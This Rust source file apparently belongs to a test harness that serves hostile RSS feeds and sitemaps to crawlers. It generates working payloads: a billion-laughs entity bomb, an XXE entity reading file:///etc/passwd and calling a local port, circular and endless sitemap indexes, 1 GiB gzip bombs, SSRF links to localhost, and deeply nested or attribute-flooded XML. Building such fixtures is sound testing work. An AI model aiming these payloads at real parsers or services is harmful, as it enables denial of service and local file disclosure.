//! Feeds and sitemaps that grow when they are read, or lead on for ever.

use std::fmt::Write as _;
use std::io;

use super::family;
use super::wire::{Wire, answer};
use crate::template::repeated_gzip;

family! {
    /// What a feed is made of.
    Feed {
        /// Entities within entities: a billion laughs.
        Entities = "entity-bomb",
        /// An entity that is a file of the visitor's computer, and one that is an address.
        External = "external-entity",
        /// A sitemap index that lists itself and one that lists it.
        IndexCircle = "sitemap-index-circle",
        /// A sitemap index whose every sitemap is one more index.
        IndexChain = "sitemap-index-chain",
        /// A sitemap index of 20,000 sitemaps.
        IndexWide = "sitemap-index-wide",
        /// A sitemap index of 2,000 indexes, each of which lists itself, the first, and 1,998 more of its kind.
        IndexNested = "sitemap-index-nested",
        /// A sitemap index of gzip files of 1 GiB each.
        IndexPacked = "sitemap-index-gzip-bombs",
        /// A sitemap index that leads to files of the visitor's computer and into its network.
        IndexInward = "sitemap-index-inward",
        /// A sitemap that is a gzip file of 1 GiB.
        Packed = "sitemap-gzip-bomb",
        /// A link with a million attributes.
        Attributes = "feed-attributes",
        /// 200,000 elements within each other.
        Deep = "feed-deep",
        /// Items without end.
        Endless = "endless-feed",
    }
}

const RSS: &str = "<rss version=\"2.0\"><channel><title>The Paper</title><link>/</link>";
const END: &str = "</channel></rss>";
const INDEX: &str = "<?xml version=\"1.0\"?><sitemapindex xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">";

/// The items of the feed as it should be.
pub(super) fn ordinary() -> String {
    let mut feed = RSS.to_owned();
    items(&mut feed);
    feed + END
}

fn items(feed: &mut String) {
    for n in 0..20 {
        let _ = write!(
            feed,
            "<item><guid>story-{n}</guid><title>The council talks about street number {n}</title><link>/story/{n}</link></item>"
        );
    }
}

fn index(children: impl Iterator<Item = String>) -> String {
    let mut text = INDEX.to_owned();
    for child in children {
        let _ = write!(text, "<sitemap><loc>{child}</loc></sitemap>");
    }
    text + "</sitemapindex>"
}

/// Its bytes for `path` and their type.
pub(super) fn made(feed: Feed, path: &str, inside: u16) -> (Vec<u8>, &'static str) {
    let xml = |text: String| (text.into_bytes(), "application/xml");
    match feed {
        Feed::Entities => {
            let mut text = "<?xml version=\"1.0\"?><!DOCTYPE rss [<!ENTITY l0 \"ha\">".to_owned();
            for n in 1..=30 {
                let _ = write!(text, "<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10));
            }
            let _ = write!(text, "]>{RSS}<item><guid>1</guid><title>&l30;</title><link>/story/1</link></item>");
            items(&mut text);
            xml(text + END)
        }
        Feed::External => {
            let mut text = format!(
                "<?xml version=\"1.0\"?><!DOCTYPE rss [<!ENTITY file SYSTEM \"file:///etc/passwd\"><!ENTITY % out SYSTEM \
                 \"http://127.0.0.1:{inside}/out\">%out;]>{RSS}<item><guid>1</guid><title>&file;</title><link>/story/1</link></item>"
            );
            items(&mut text);
            xml(text + END)
        }
        Feed::IndexCircle => {
            let other = if path == "/feed.xml" { "/other.xml" } else { "/feed.xml" };
            xml(index(["/feed.xml", other].into_iter().map(str::to_owned)))
        }
        Feed::IndexChain => {
            let turn = path.strip_prefix("/turn/").and_then(|n| n.parse::<u64>().ok()).unwrap_or(0);
            xml(index(std::iter::once(format!("/turn/{}", turn.wrapping_add(1)))))
        }
        Feed::IndexWide => xml(index((0..20_000).map(|n| format!("/news-{n}.xml")))),
        Feed::IndexNested => {
            let deeper = (0..1_998).map(|n| format!("{}/{n}.xml", path.trim_end_matches(".xml")));
            xml(index(deeper.chain([path.to_owned(), "/feed.xml".to_owned()])))
        }
        Feed::IndexPacked if path == "/feed.xml" => xml(index((0..100).map(|n| format!("/news-{n}.xml.gz")))),
        Feed::IndexInward => {
            let inward = ["file:///etc/passwd".to_owned(), format!("http://localhost:{inside}/news.xml")];
            xml(index(inward.into_iter()))
        }
        Feed::Packed | Feed::IndexPacked => (repeated_gzip(&vec![b' '; 1 << 20], 1024), "application/gzip"),
        Feed::Attributes => {
            let mut text = format!("{RSS}<item><guid>1</guid><title>x</title><link");
            for n in 0..1_000_000 {
                let _ = write!(text, " a{n:x}='1'");
            }
            text.push_str(" href='/x'/></item>");
            items(&mut text);
            xml(text + END)
        }
        Feed::Deep => {
            let mut text = RSS.to_owned();
            text.push_str(&"<item>".repeat(200_000));
            items(&mut text);
            xml(text + END)
        }
        Feed::Endless => xml(RSS.to_owned()),
    }
}

/// Answers one request.
pub(super) async fn send(feed: Feed, wire: &mut impl Wire, body: &[u8], media: &str) -> io::Result<()> {
    if feed == Feed::Endless {
        super::wire::send(wire, "HTTP/1.1 200 OK\r\nContent-Type: application/xml\r\nConnection: close\r\n\r\n")
            .await?;
        super::wire::send(wire, body).await?;
        let item = "<item><guid>1</guid><title>One more story</title><link>/story/1</link></item>".repeat(200);
        return super::wire::without_end(wire, item.as_bytes()).await;
    }
    answer(wire, "200 OK", &[("Content-Type", media)], body).await
}
